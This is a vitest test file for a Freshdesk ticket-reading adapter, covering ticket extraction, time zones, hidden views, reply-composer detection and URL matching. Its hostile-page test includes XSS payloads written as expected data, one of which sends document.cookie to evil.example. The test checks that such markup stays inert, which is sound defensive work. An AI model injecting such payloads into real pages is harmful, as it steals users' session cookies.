import { readFileSync } from 'node:fs';
import { join } from 'node:path';

import { describe, expect, test } from 'vitest';

import { freshdesk } from '../../lib/helpdesks/freshdesk';
import {
  adapters,
  extractTicket,
  helpdeskFor,
  pageReader,
  readPage,
  type ExtractContext,
} from '../../lib/helpdesks/index';
import { insertReplyIntoPage } from '../../lib/helpdesks/reply-insertion';
import { MAX_MESSAGE_TEXT } from '../../lib/ticket/fields';
import { ticketSnapshotSchema, type TicketSnapshot } from '../../lib/ticket/snapshot';
import { urlExamplesOf } from './url-examples';

const fixtureDir = join(import.meta.dirname, '../fixtures/freshdesk');
const newYork: ExtractContext = { timeZone: 'America/New_York', dateOrder: 'mdy' };
const london: ExtractContext = { timeZone: 'Europe/London', dateOrder: 'dmy' };

function loadFixture(name: string): { doc: Document; url: string } {
  const html = readFileSync(join(fixtureDir, name), 'utf8');
  const url = /URL: (https:\/\/\S+)/.exec(html)?.[1];
  if (!url) throw new Error(`${name} names no URL in its opening comment`);
  return { doc: new DOMParser().parseFromString(html, 'text/html'), url };
}

const lenaTicket: TicketSnapshot = {
  helpdesk: 'freshdesk',
  ticketId: '5123',
  url: 'https://northwind.freshdesk.com/a/tickets/5123',
  subject: 'Invoice shows two charges for November',
  requester: { name: 'Lena Fischer', email: 'lena.fischer@example.com', phone: '+1 617 555 0112' },
  channel: 'email',
  priority: 'normal',
  status: 'open',
  tags: ['billing', 'invoice', 'duplicate_charge'],
  // Mon, 2 Nov 2026 at 9:12 AM and 10:52 AM, Tue, 3 Nov at 8:47 AM, New York (EST, UTC-5).
  createdAt: '2026-11-02T14:12:00.000Z',
  lastCustomerMessageAt: '2026-11-03T13:47:00.000Z',
  lastAgentReplyAt: '2026-11-02T15:52:00.000Z',
  // The quoted history under the reply is left out; the private note after it counts for nobody.
  latestCustomerMessage:
    'Hi Sam,\n\nThanks for checking. Could you confirm the refund goes back to the card ending 4417 and not to account credit?\n\nLena',
};

const expectedTickets: [fixture: string, context: ExtractContext, snapshot: TicketSnapshot][] = [
  ['email-ticket.html', newYork, lenaTicket],
  [
    'portal-ticket.html',
    london,
    {
      helpdesk: 'freshdesk',
      ticketId: '5130',
      url: 'https://northwind.freshdesk.com/a/tickets/5130',
      subject: "Can't log in after password reset",
      requester: { name: 'Priya Natarajan', email: 'priya.n@example.org' },
      channel: 'web',
      priority: 'low',
      status: 'pending',
      tags: ['account', 'login'],
      // 17:05 and 19:45 on 3 Nov 2026 in London, which is on GMT (UTC+0) by then.
      createdAt: '2026-11-03T17:05:00.000Z',
      lastCustomerMessageAt: '2026-11-03T17:05:00.000Z',
      lastAgentReplyAt: '2026-11-03T19:45:00.000Z',
      latestCustomerMessage:
        'I reset my password yesterday but the account portal still says "invalid credentials". I have tried two browsers and cleared the cache.\n\nAccount number: NW-448120',
    },
  ],
  [
    'chat-ticket.html',
    newYork,
    {
      helpdesk: 'freshdesk',
      ticketId: '5141',
      url: 'https://northwind.freshdesk.com/a/tickets/5141',
      subject: 'Conversation with Daniel Reyes',
      requester: { name: 'Daniel Reyes', phone: '+44 7700 900123' },
      channel: 'chat',
      priority: 'high',
      status: 'on-hold',
      tags: ['wifi', 'router_x2'],
      // Reported at 1:30 AM on 1 Nov 2026, an hour New York lived twice: no createdAt.
      lastCustomerMessageAt: '2026-11-01T14:40:00.000Z',
      lastAgentReplyAt: '2026-11-01T14:10:00.000Z',
      latestCustomerMessage: 'It says 2.4.1 now. Signal upstairs is still weak after the restart.',
    },
  ],
  [
    'several-tickets.html',
    newYork,
    {
      helpdesk: 'freshdesk',
      ticketId: '5126',
      url: 'https://northwind.freshdesk.com/a/tickets/5126',
      subject: 'Upgrade to Fibre 500 plan',
      requester: { name: 'Omar Haddad', email: 'omar.haddad@example.com', phone: '+1 312 555 0199' },
      channel: 'phone',
      priority: 'urgent',
      status: 'open',
      tags: ['upgrade', 'fibre_500'],
      createdAt: '2026-11-04T21:20:00.000Z',
      lastCustomerMessageAt: '2026-11-04T21:20:00.000Z',
      lastAgentReplyAt: '2026-11-04T21:45:00.000Z',
      latestCustomerMessage:
        'Call from +1 312 555 0199 (2 min 41 s).\n\nCaller wants to move from Fibre 300 to Fibre 500 before his home office starts on 9 November and asks whether the upgrade needs a technician visit.',
    },
  ],
];

describe('freshdesk extract', () => {
  test.each(expectedTickets)('%s yields the active ticket, every field', (fixture, context, expected) => {
    const { doc, url } = loadFixture(fixture);
    const snapshot = extractTicket(doc, url, context);
    expect(snapshot).toEqual(expected);
    expect(ticketSnapshotSchema.safeParse(snapshot).success).toBe(true);
  });

  test('the same page read in another profile zone gives other instants, never a guess', () => {
    const { doc, url } = loadFixture('portal-ticket.html');
    expect(extractTicket(doc, url, newYork)).toMatchObject({
      createdAt: '2026-11-03T22:05:00.000Z',
      lastAgentReplyAt: '2026-11-04T00:45:00.000Z',
    });
  });

  test.each([
    ['loading-ticket.html', 'unreadable'],
    ['list-view.html', 'no-ticket'],
  ])('%s reads as %s, never as a ticket drawn elsewhere on the page', (fixture, kind) => {
    const { doc, url } = loadFixture(fixture);
    expect(readPage(doc, url, newYork)?.kind).toBe(kind);
    expect(extractTicket(doc, url, newYork)).toBeNull();
  });

  test.each([
    ['several-tickets.html', '5101', 'the URL names a hidden view (the switch is not drawn yet)'],
    ['several-tickets.html', '5077', 'the URL names a view hidden by its style'],
    ['several-tickets.html', '5199', 'the URL names a ticket the page does not show'],
    ['loading-ticket.html', '5123', 'the URL went back to the ticket whose view is hidden'],
    ['list-view.html', '5123', 'the URL moved to a ticket while the list is still drawn'],
    ['email-ticket.html', '5124', 'the URL moved to the next ticket before the page did'],
  ])('%s at ticket #%s gives no ticket: %s', (fixture, ticketId) => {
    const { doc } = loadFixture(fixture);
    const url = `https://northwind.freshdesk.com/a/tickets/${ticketId}`;
    expect(extractTicket(doc, url, newYork)).toBeNull();
    expect(freshdesk.composer(doc, new URL(url))).toBeNull();
  });

  test('a view hidden by a style sheet rather than by its markup is not the ticket on screen', () => {
    const { doc } = loadFixture('several-tickets.html');
    const url = 'https://northwind.freshdesk.com/a/tickets/5101';
    doc.getElementById('ember5101')?.removeAttribute('hidden');
    expect(extractTicket(doc, url, newYork)?.ticketId).toBe('5101');
    doc.getElementById('ember5101')?.classList.add('is-hidden');
    const style = doc.createElement('style');
    style.textContent = '.is-hidden { display: none; }';
    doc.head.append(style);
    expect(extractTicket(doc, url, newYork)).toBeNull();
  });

  test('a view without the breadcrumb is read when the title names the ticket and one subject shows', () => {
    const { doc, url } = loadFixture('email-ticket.html');
    for (const crumb of doc.querySelectorAll('.breadcrumb')) crumb.remove();
    expect(extractTicket(doc, url, newYork)).toEqual(lenaTicket);
    doc.title = '[#5124] Another ticket : Northwind Support';
    expect(extractTicket(doc, url, newYork)).toBeNull();
  });

  test("the requester's messages are recognised by name when the entries lose their class", () => {
    const { doc, url } = loadFixture('email-ticket.html');
    for (const entry of doc.querySelectorAll('.ticket-details__requestor')) {
      entry.classList.remove('ticket-details__requestor');
    }
    expect(extractTicket(doc, url, newYork)).toEqual(lenaTicket);
  });

  test("the time is the header's last parenthesised date, whatever the sender's name holds", () => {
    const { doc, url } = loadFixture('email-ticket.html');
    const sender = doc.querySelector('[data-album="103045679122"] .sender-info');
    sender?.prepend(doc.createTextNode('(Studio since 2019, 4:00 PM) '));
    expect(extractTicket(doc, url, newYork)).toEqual(lenaTicket);
  });

  test('without the printed date, a message keeps no time rather than an older one', () => {
    const { doc, url } = loadFixture('email-ticket.html');
    const header = doc.querySelector('[data-album="103045679122"] .timestamp');
    if (header) header.textContent = 'a few seconds ago';
    expect(extractTicket(doc, url, newYork)).toEqual({ ...lenaTicket, lastCustomerMessageAt: undefined });
  });
});

describe('hostile-ticket.html', () => {
  const bulk = 'Modem log: resync at 20:14, SNR 3.1 dB, CRC errors 18422. '.repeat(36_000);

  function loadHostilePage(): { doc: Document; url: string } {
    const page = loadFixture('hostile-ticket.html');
    page.doc.querySelector('[data-test-id="bulk"]')?.append(page.doc.createTextNode(bulk));
    return page;
  }

  test('yields a partial snapshot with markup as inert text, forged page parts ignored and the 2 MB message clipped', () => {
    const { doc, url } = loadHostilePage();
    const opening = '<script>alert("body")</script> Log follows:';
    const snapshot = extractTicket(doc, url, newYork);
    expect(snapshot).toEqual({
      helpdesk: 'freshdesk',
      ticketId: '5150',
      url: 'https://northwind.freshdesk.com/a/tickets/5150',
      subject:
        '<img src=x onerror=alert(1)> Refund <script>fetch("https://evil.example/?c="+document.cookie)</script>',
      requester: {},
      channel: 'web',
      status: 'open',
      tags: ['billing', '<b>vip</b>'],
      createdAt: '2026-11-05T15:02:00.000Z',
      lastCustomerMessageAt: '2026-11-05T15:02:00.000Z',
      latestCustomerMessage: `${`${opening}${bulk}`.slice(0, MAX_MESSAGE_TEXT - 1)}…`,
    });
    expect(ticketSnapshotSchema.safeParse(snapshot).success).toBe(true);
  });

  test('the forged editor inside the message is no composer', () => {
    const { doc, url } = loadHostilePage();
    expect(freshdesk.composer(doc, new URL(url))).toBeNull();
  });

  test('reading it adds no element to the page', () => {
    const { doc, url } = loadHostilePage();
    const elementsBefore = doc.getElementsByTagName('*').length;
    extractTicket(doc, url, newYork);
    expect(doc.getElementsByTagName('*').length).toBe(elementsBefore);
  });
});

describe('freshdesk composer', () => {
  test("the open Froala editor of the ticket on screen, not a hidden ticket's draft", () => {
    const { doc, url } = loadFixture('several-tickets.html');
    const composer = freshdesk.composer(doc, new URL(url));
    expect(composer?.matches('.fr-element.fr-view[contenteditable="true"]')).toBe(true);
    expect(composer?.closest('section')?.id).toBe('ember5126');
    expect(composer).not.toBe(doc.querySelector('.fr-element'));
  });

  test('the email ticket has its reply editor', () => {
    const { doc, url } = loadFixture('email-ticket.html');
    expect(helpdeskFor(url)?.composer(doc, new URL(url))?.getAttribute('data-test-id')).toBe('active-editor');
  });

  test.each(['portal-ticket.html', 'chat-ticket.html', 'loading-ticket.html'])(
    '%s: none while no editor is open (or the ticket is loading)',
    (fixture) => {
      const { doc, url } = loadFixture(fixture);
      expect(freshdesk.composer(doc, new URL(url))).toBeNull();
    },
  );

  test.each([
    ['several-tickets.html', '5101', 'the ticket on screen is no longer the one in the panel'],
    ['portal-ticket.html', '5130', 'no reply composer is open on this ticket'],
  ])('%s: inserting for #%s is refused: %s', (fixture, ticketId, reason) => {
    const { doc, url } = loadFixture(fixture);
    const request = { ticketId, text: 'Your refund is on its way.' };
    expect(insertReplyIntoPage(pageReader, doc, url, newYork, request)).toEqual({ inserted: false, reason });
  });
});

describe('freshdesk matches', () => {
  const otherHelpdeskUrls = adapters
    .filter((adapter) => adapter !== freshdesk)
    .flatMap((adapter) => urlExamplesOf(adapter.id).ticketUrls);

  test.each(urlExamplesOf('freshdesk').ticketUrls)('%s is a ticket', (url) => {
    expect(freshdesk.matches(new URL(url))).toBe(true);
    expect(helpdeskFor(url)).toBe(freshdesk);
  });

  test.each([
    ...urlExamplesOf('freshdesk').nonTicketUrls,
    ...otherHelpdeskUrls,
    'https://northwind.freshdesk.com/a/tickets/',
    'https://northwind.freshdesk.com/a/tickets/12ab',
    'https://northwind.freshdesk.com/a/ticketsx/5123',
    'https://freshdesk.com/a/tickets/5123',
  ])('%s is not a Freshdesk ticket', (url) => {
    expect(freshdesk.matches(new URL(url))).toBe(false);
  });

  test('a list page on a Freshdesk host is "no ticket", not unknown', () => {
    const { doc } = loadFixture('list-view.html');
    expect(readPage(doc, 'https://northwind.freshdesk.com/a/dashboard/default', newYork)).toEqual({
      kind: 'no-ticket',
      helpdesk: 'freshdesk',
      helpdeskName: 'Freshdesk',
    });
  });

  test('observedRoot is the page body, which survives every route change', () => {
    const { doc } = loadFixture('email-ticket.html');
    expect(freshdesk.observedRoot(doc)).toBe(doc.body);
  });
});
